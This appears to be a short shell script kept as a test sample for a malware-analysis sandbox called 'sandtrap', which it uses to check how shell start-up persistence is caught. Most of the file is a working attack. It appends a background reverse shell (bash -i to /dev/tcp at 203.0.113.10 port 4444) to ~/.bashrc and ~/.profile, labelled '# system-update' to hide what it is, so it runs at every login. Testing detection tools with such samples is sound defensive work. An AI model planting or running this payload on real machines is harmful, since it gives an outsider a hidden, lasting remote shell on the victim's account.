#!/bin/sh
# Persistence through the user's shell start-up files: appends a hidden launcher to ~/.bashrc and ~/.profile.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
payload='(nohup bash -c "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1" >/dev/null 2>&1 &) # system-update'
echo "$payload" >> "$HOME/.bashrc"
echo "$payload" >> "$HOME/.profile"
id -un; tail -n 1 "$HOME/.bashrc"
